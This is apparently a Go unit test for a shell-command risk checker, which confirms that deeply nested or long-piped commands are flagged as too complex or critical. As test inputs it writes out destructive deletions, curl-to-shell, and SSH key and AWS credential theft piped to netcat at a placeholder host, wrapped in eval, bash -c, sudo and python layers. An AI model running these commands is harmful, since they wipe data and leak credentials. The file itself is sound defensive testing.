package safety

import (
	"fmt"
	"strings"
	"testing"
)

// TestDepthBudgets checks that text nested past the walker's bounds, or passed through more stages than
// it follows, is never safe: whatever was not walked could do anything.
func TestDepthBudgets(t *testing.T) {
	nest := func(inner string, n int, wrap func(string) string) string {
		for range n {
			inner = wrap(inner)
		}
		return inner
	}
	prefix := func(p string) func(string) string { return func(s string) string { return p + " " + squote(s) } }
	var cases []riskCase
	for _, w := range []string{"eval", "bash -c", "sh -c", "su -c", "sudo sh -c", "env -S", "zsh -c", "ssh host", "watch"} {
		cases = append(cases,
			riskCase{nest("ls", 9, prefix(w)), High, "too-complex"},
			riskCase{nest("echo hi", 12, prefix(w)), High, "too-complex"},
			riskCase{nest("rm -rf /", 3, prefix(w)), Critical, "fs.rm-root"},
		)
	}
	shapes := map[string]func(string) string{
		"here-string": func(s string) string { return "bash <<< " + squote(s) },
		"pipe":        func(s string) string { return "echo " + squote(s) + " | sh" },
		"substitution": func(s string) string {
			return `bash -c "$(echo ` + squote(s) + `)"`
		},
		"python": func(s string) string {
			return "python3 -c " + squote("import os; os.system("+`"`+strings.ReplaceAll(s, `"`, `\"`)+`"`+")")
		},
	}
	for name, wrap := range shapes {
		cases = append(cases, riskCase{nest("ls", 9, wrap), High, "too-complex"})
		if name != "python" {
			cases = append(cases, riskCase{nest("rm -rf ~", 2, wrap), Critical, "fs.rm-home"})
		}
	}
	stages := func(head, stage, tail string, n int) string {
		return head + " | " + strings.Repeat(stage+" | ", n) + tail
	}
	cases = append(cases,
		riskCase{stages("echo 'rm -rf /'", "cat", "bash", 6), Critical, "fs.rm-root"},
		riskCase{stages("echo 'ls'", "cat", "bash", 40), High, "too-complex"},
		riskCase{stages("curl -s http://x", "cat", "sh", 10), Critical, "net.pipe-to-shell"},
		riskCase{stages("curl -s http://x", "cat", "sh", 40), High, "too-complex"},
		riskCase{stages("cat ~/.ssh/id_rsa", "cat", "nc x 80", 10), Critical, "net.exfiltrate"},
		riskCase{stages("cat ~/.aws/credentials", "cat", "nc x 80", 40), High, "too-complex"},
		riskCase{strings.Repeat("nice ", 17) + "rm -rf /", High, "too-complex"},
		riskCase{strings.Repeat("sudo env nice timeout 5 nohup ", 4) + "ls", High, "too-complex"},
		riskCase{"sudo env nice timeout 5 nohup rm -rf /", Critical, "fs.rm-root"},
		// Ordinary long pipelines and nesting are not too complex.
		riskCase{stages("ls", "grep a", "wc -l", 20), Safe, ""},
		riskCase{nest("ls", 3, prefix("bash -c")), Safe, ""},
		riskCase{"echo ls | bash", Safe, ""},
	)
	for i, tc := range cases {
		// The commands grow fast with nesting: name the subtests by index and show a prefix on failure.
		t.Run(fmt.Sprint(i), func(t *testing.T) {
			v := Check(tc.cmd, Options{Home: "/home/u"})
			found := tc.rule == ""
			var ids []string
			for _, f := range v.Findings {
				ids = append(ids, f.Rule+"="+f.Risk.String())
				found = found || f.Rule == tc.rule
			}
			if v.Risk != tc.want || !found {
				t.Errorf("%.120s…: got %s, want %s (rule %q); findings: %s", tc.cmd, v.Risk, tc.want, tc.rule, strings.Join(ids, ", "))
			}
		})
	}
}
